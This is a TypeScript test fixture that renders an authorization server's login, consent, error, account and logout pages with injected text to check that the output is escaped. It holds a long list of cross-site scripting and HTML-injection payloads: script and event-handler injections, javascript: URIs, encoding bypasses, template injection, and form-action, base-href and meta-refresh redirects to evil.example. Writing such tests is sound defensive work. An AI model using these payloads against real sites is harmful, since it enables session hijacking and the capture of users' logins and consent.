import {
  accountPage,
  consentPage,
  errorPage,
  loginPage,
  logoutPage,
  type Site,
  signedOutPage,
} from '../../../src/authorization/pages/pages.ts';
import { account, login } from './samples.ts';

/** Every page, with the text in each place that can contain text by others. */
export function dressed(plain: Site, text: string, redirectUri = text): readonly string[] {
  const site = { ...plain, name: text };
  const application = { name: text, redirectUri };
  const person = { username: text, name: `${text}.` };
  const form = { action: '/a', transaction: text, csrf: text };
  return [
    loginPage(site, { ...login, form, application, username: text, failure: { kind: 'refused' } }),
    consentPage(site, {
      form,
      switchForm: form,
      application,
      person,
      scopes: [{ token: text }, { token: text, words: text, grantedBefore: true }],
    }),
    errorPage(site, { kind: 'redirect_refused', code: text, id: text, detail: text }),
    accountPage(site, {
      ...account,
      person,
      apps: [{ clientId: text, application, scopes: [text], since: 0 }],
      sessions: [{ id: text, current: false, userAgent: text, address: text, isSameNetwork: true, since: 0 }],
      disconnectForm: { action: '/a', csrf: text },
    }),
    logoutPage(site, { form, person, application: text, account: '/a' }),
    signedOutPage({ ...site, logo: '/logo.svg' }, {}),
  ];
}

/** Ends the place where a page may show the text. */
const escapes = ['">', "'>", '`>', '</bdi>', '</title>', '</legend></fieldset></form>', '--></style>', '&quot;&gt;'];

/** Runs, if the text before it has ended its place. */
const runs = [
  '<ScRiPt>pwned()</sCrIpT>',
  '<script\t>pwned()</script\n>',
  '<script src=data:,pwned()></script>',
  '<details open ontoggle=pwned()>',
  '<video><source onerror=pwned()></video>',
  '<input onfocus=pwned() autofocus>',
  '<object data="javascript:pwned()"></object>',
];

/**
 * Text that has escaped from HTML in other programs: in elements, attributes, addresses, comments, and by character
 * sets.
 */
export const hostile: readonly string[] = [
  ...escapes.flatMap((before) => runs.map((run) => before + run)),
  '<script>pwned()</script>',
  '</title><script>pwned()</script>',
  '</bdi></strong></p><img src=x onerror=pwned()>',
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  '" autofocus onfocus=pwned() x="',
  "' autofocus onfocus=pwned() x='",
  '` onmouseover=pwned() `',
  '<svg/onload=pwned()>',
  '<svg><animate onbegin=pwned() attributeName=x dur=1s>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=pwned()>',
  '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
  '<a href="javascript:pwned()">x</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><button>Allow</button></form>',
  '</form><form action=https://evil.example/>',
  '<input name=decision value=allow>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<!--<script>pwned()//-->',
  '--><script>pwned()</script>',
  ']]><script>pwned()</script>',
  '<noscript><p title="</noscript><img src=x onerror=pwned()>">',
  '<textarea></textarea><script>pwned()</script>',
  '<plaintext>',
  '<xmp><script>pwned()</script>',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '&#60;img src=x onerror=pwned()&#62;',
  '&quot; onfocus=pwned() autofocus x=&quot;',
  '<scr\0ipt>pwned()</scr\0ipt>',
  '<img\fsrc=x\fonerror=pwned()>',
  '<img/src=x/onerror=pwned()//',
  '+ADw-script+AD4-pwned()+ADw-/script+AD4-',
  '\u003cscript\u003epwned()\u003c/script\u003e',
  '＜script＞pwned()＜/script＞',
  '\u202e<b>gnp.elif',
  '\ud800<script>pwned()</script>',
  'javascript:pwned()',
  'javascript://%0apwned()',
  'data:text/html,<script>pwned()</script>',
  'https://paypal.example@evil.example/<script>pwned()</script>',
  'https://x"onmouseover="pwned()/',
  'com.example.app:/<script>pwned()</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a payload for template engines
  '${pwned()}{{constructor.constructor("pwned()")()}}<%= pwned() %>',
];
